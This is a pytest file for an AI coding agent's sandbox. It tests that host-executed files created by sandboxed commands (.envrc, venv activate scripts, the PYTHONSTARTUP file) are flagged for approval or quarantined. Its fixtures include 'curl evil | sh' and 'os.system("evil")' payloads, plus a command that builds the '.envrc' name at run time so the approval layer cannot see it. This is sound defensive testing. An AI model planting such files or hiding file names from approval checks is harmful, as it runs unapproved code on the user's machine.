"""What a sandboxed command creates that the host runs later: asked after the command, moved aside if not accepted.

The mounts hold only what exists when a command starts (guard.yaml's host-executed-sandbox rows
run the attacks, headless); here the same compare runs through a real turn (fake Messages API,
real SDK, loop, approval pipeline and sandbox), where the person answers a card: kept when
accepted, moved out of the project when declined or when nobody can be asked. The controls: an
ordinary file written the same way brings no card, and a virtualenv the agent makes stays
usable (``python -m venv`` then ``pip install``, twice) with no card.
"""

from __future__ import annotations

import asyncio
import sys
import zipfile
from pathlib import Path

import pytest

from codingcode_jupyter.engine.events import ToolCallFinished
from codingcode_jupyter.engine.user_dir import user_dir
from tests.engine.sandbox_helpers import make_sandbox, needs_sandbox, run
from tests.fakes.anthropic_server import Reply, text, tool_use
from tests.fakes.front import ScriptedFront

# The file's name is built at run time: no command line names it, so the approval layer cannot see it.
PLANT = 'mkdir -p sub && n=.en && echo "echo PLANTED" > "sub/${n}vrc"\n'
ORDINARY = 'mkdir -p sub && n=no && echo "ordinary" > "sub/${n}tes.txt"\n'


async def _turn(project: Path, front: ScriptedFront | None, *commands: str, fake_api) -> list:
    from codingcode_jupyter.engine.runtime import open_session
    from codingcode_jupyter.engine.session import TurnOptions

    for number, command in enumerate(commands):
        fake_api.add(Reply([tool_use("execute_command", {"command": command}, id=f"c{number}")]))
    fake_api.add(Reply([text("done")]))
    session = open_session(project, model="claude-sonnet-5")
    emitted: list = []
    try:
        await session.run_turn("run them", front if front is not None else emitted.append,
                               options=TurnOptions(mode="bypass"))
    finally:
        await session.aclose()
    return front.events if front is not None else emitted


def _results(events: list) -> list[str]:
    return [e.result or "" for e in events if isinstance(e, ToolCallFinished)]


def _host_cards(front: ScriptedFront) -> list:
    return [r for r in front.asked if r.tool_use_id.endswith(":host-files")]


def _quarantined(name: str) -> list[Path]:
    root = user_dir() / "quarantine"
    return [p for p in root.rglob(name)] if root.exists() else []


@needs_sandbox
@pytest.mark.parametrize("answer", ["allow", "deny"])
async def test_a_new_host_file_is_asked_about_and_kept_only_when_accepted(fake_api, project, answer):
    (project / "plant.sh").write_text(PLANT)
    front = ScriptedFront([answer])
    events = await _turn(project, front, "sh plant.sh", fake_api=fake_api)
    cards = _host_cards(front)
    assert len(cards) == 1 and front.asked == cards, [r.tool_use_id for r in front.asked]
    assert "sub/.envrc" in cards[0].reason and "direnv" in cards[0].reason and cards[0].forced
    planted = project / "sub" / ".envrc"
    if answer == "allow":
        assert planted.read_text() == "echo PLANTED\n"
        assert "kept sub/.envrc" in _results(events)[0]
    else:
        assert not planted.exists(), "declined: moved out of the project"
        assert [p.read_text() for p in _quarantined(".envrc")] == ["echo PLANTED\n"]
        assert "moved out of the project" in _results(events)[0]


@needs_sandbox
async def test_nobody_to_ask_moves_it_aside(fake_api, project):
    (project / "plant.sh").write_text(PLANT)
    events = await _turn(project, None, "sh plant.sh", fake_api=fake_api)
    assert not (project / "sub" / ".envrc").exists()
    assert "moved out of the project" in _results(events)[0]


@needs_sandbox
async def test_control_an_ordinary_file_brings_no_card(fake_api, project):
    (project / "plant.sh").write_text(ORDINARY)
    front = ScriptedFront(["deny"])
    events = await _turn(project, front, "sh plant.sh", "git init -q . && git status --short", fake_api=fake_api)
    assert front.asked == [] and (project / "sub" / "notes.txt").read_text() == "ordinary\n"
    # The sandbox's own empty mount targets (a .git placeholder) are not the command's.
    assert all("moved out" not in r for r in _results(events))


def test_a_changed_host_file_gets_its_previous_content_back(tmp_path):
    # The mounts keep existing files read-only; should a backend not hold one, the compare still
    # sees the change (the change is made here on the host, as if by a command) and restores it.
    project, home = tmp_path / "proj", tmp_path / "home"
    project.mkdir(), home.mkdir()
    (project / ".envrc").write_text("export A=1\n")
    sandbox = make_sandbox(project, home)
    watch = sandbox.watch_host()
    assert watch.changes() == [], "control: nothing changed, nothing named"
    (project / ".envrc").write_text("curl evil | sh\n")
    (project / "notes.md").write_text("ordinary\n")
    changes = watch.changes()
    assert [(c.rel, c.change) for c in changes] == [(".envrc", "changed")]
    lines = watch.quarantine(changes)
    assert (project / ".envrc").read_text() == "export A=1\n" and "previous content is back" in lines[0]
    assert [p.read_text() for p in _quarantined(".envrc")] == ["curl evil | sh\n"]


def _wheel(where: Path, name: str) -> Path:
    """A tiny wheel with a module and a .pth file (what an editable install leaves in site-packages)."""
    info = f"{name}-1.0.dist-info"
    files = {f"{name}.py": "VALUE = 1\n", f"{name}.pth": f"# {name} path file\n",
             f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
             f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join(f"{path},,\n" for path in files) + f"{info}/RECORD,,\n"
    path = where / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as wheel:
        for rel, body in {**files, f"{info}/RECORD": record}.items():
            wheel.writestr(rel, body)
    return path


@needs_sandbox
@pytest.mark.slow
def test_a_venv_the_agent_makes_stays_usable_and_unasked(tmp_path):
    project, home = tmp_path / "proj", tmp_path / "home"
    (project / "wheels").mkdir(parents=True), home.mkdir()
    _wheel(project / "wheels", "agent_one"), _wheel(project / "wheels", "agent_two")
    sandbox = make_sandbox(project, home)
    pip = "PIP_DISABLE_PIP_VERSION_CHECK=1 .venv/bin/pip install -q --no-index --no-cache-dir"

    def bracketed(command: str) -> tuple[int, str, list[str]]:
        done = asyncio.run(run(sandbox, command, timeout=240.0))  # compared after, nobody to ask
        return done.returncode, done.out + done.err, done.notes

    try:
        code, out, notes = bracketed(f"{sys.executable} -m venv .venv && {pip} wheels/agent_one-1.0-py3-none-any.whl")
        assert code == 0 and notes == [], out
        # The next command: the venv is the agent's, so it is not bound read-only (pip writes into it).
        code, out, notes = bracketed(f"{pip} wheels/agent_two-1.0-py3-none-any.whl && "
                                     ".venv/bin/python -c 'import agent_one, agent_two; print(\"OK\")'")
        assert code == 0 and "OK" in out and notes == [], out
        assert list(project.glob(".venv/lib/python*/site-packages/agent_two.pth")), "the venv's .pth files are kept"
        # Control: what other programs than the venv's Python run is still asked, inside it too.
        code, out, notes = bracketed('n=.en; echo "echo PLANTED" > ".venv/${n}vrc"')
        assert not (project / ".venv" / ".envrc").exists() and "moved out" in notes[0]
    finally:
        asyncio.run(sandbox.aclose())


def test_two_commands_at_once_ask_once(tmp_path):
    # Two sandboxed commands overlap: both see the same new file. Kept by the person after the first,
    # the second does not ask again; moved aside by the first, the second finds nothing to move.
    project, home = tmp_path / "proj", tmp_path / "home"
    project.mkdir(), home.mkdir()
    sandbox = make_sandbox(project, home)
    first, second = sandbox.watch_host(), sandbox.watch_host()
    (project / ".envrc").write_text("echo planted\n")
    assert [c.rel for c in second.changes()] == [".envrc"], "control: the second command sees it too"
    first.accept(first.changes())
    assert second.changes() == []
    (project / ".envrc").write_text("echo changed again\n")
    assert [c.rel for c in second.changes()] == [".envrc"], "changed after it was kept: asked again"
    third = sandbox.watch_host()
    (project / "sub").mkdir()
    (project / "sub" / ".envrc").write_text("x\n")
    changes = third.changes()
    assert len(third.quarantine(changes)) == 1 and third.quarantine(changes) == []


@needs_sandbox
async def test_an_interrupted_command_leaves_no_new_host_file(tmp_path):
    # Cancelled while it runs (the person interrupts the cell): nobody is asked, the new file is moved aside.
    from codingcode_jupyter.engine.tools.base import ToolContext
    from codingcode_jupyter.engine.tools.shell import execute_command_tool
    from tests.engine.helpers import make_deps
    from tests.polling import eventually

    project, home = tmp_path / "proj", tmp_path / "home"
    project.mkdir(), home.mkdir()
    (project / "plant.sh").write_text(PLANT + "sleep 60\n")
    sandbox = make_sandbox(project, home)
    ctx = ToolContext.standalone(project, deps=make_deps(project, sandbox=sandbox))
    task = asyncio.ensure_future(execute_command_tool().run({"command": "sh plant.sh"}, ctx))
    try:
        await eventually(lambda: (project / "sub" / ".envrc").exists(), within=60, what="the plant")
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        assert not (project / "sub" / ".envrc").exists()
        assert [p.read_text() for p in _quarantined(".envrc")] == ["echo PLANTED\n"]
    finally:
        await sandbox.aclose()


@needs_sandbox
@pytest.mark.slow
def test_a_venv_the_agent_makes_keeps_its_activate_script_as_venv_wrote_it(tmp_path):
    # What the person's shell sources is not the agent's venv's own: written as `venv` writes it, no
    # question; changed then (or written otherwise), it is asked about and put back.
    project, home = tmp_path / "proj", tmp_path / "home"
    project.mkdir(), home.mkdir()
    sandbox = make_sandbox(project, home)
    try:
        made = asyncio.run(run(sandbox, f"{sys.executable} -m venv --without-pip .venv", timeout=240.0))
        assert made.returncode == 0 and made.notes == [], made
        stock = (project / ".venv" / "bin" / "activate").read_text()
        changed = asyncio.run(run(sandbox, "echo 'curl evil | sh' >> .venv/bin/activate; echo ok >> .venv/notes.txt"))
        assert (project / ".venv" / "bin" / "activate").read_text() == stock
        assert (project / ".venv" / "notes.txt").read_text() == "ok\n"  # control: the rest of the venv is writable
        tampered = asyncio.run(run(sandbox, f"{sys.executable} -m venv --without-pip other && "
                                            "echo 'curl evil | sh' >> other/bin/activate.fish", timeout=240.0))
    finally:
        asyncio.run(sandbox.aclose())
    assert changed.notes == [] or "activate" in changed.notes[0]  # bubblewrap refuses it, Landlock puts it back
    assert not (project / "other" / "bin" / "activate.fish").exists() and "activate.fish" in tampered.notes[0]


@needs_sandbox
def test_the_file_pythonstartup_names_is_host_executed(tmp_path, monkeypatch):
    project, home = tmp_path / "proj", tmp_path / "home"
    (project / "tools").mkdir(parents=True), home.mkdir()
    (project / "tools" / "startup.py").write_text("print('hello')\n")
    (project / "tools" / "other.py").write_text("print('hello')\n")
    monkeypatch.setenv("PYTHONSTARTUP", str(project / "tools" / "startup.py"))
    sandbox = make_sandbox(project, home)
    try:
        done = asyncio.run(run(sandbox, "echo 'import os; os.system(\"evil\")' >> tools/startup.py; "
                                        "echo '# ordinary' >> tools/other.py"))
    finally:
        asyncio.run(sandbox.aclose())
    # bubblewrap binds it read-only; under Landlock the compare puts it back.
    assert (project / "tools" / "startup.py").read_text() == "print('hello')\n"
    assert "Read-only file system" in done.err or "startup.py" in done.notes[0], done
    assert (project / "tools" / "other.py").read_text().endswith("# ordinary\n")  # control
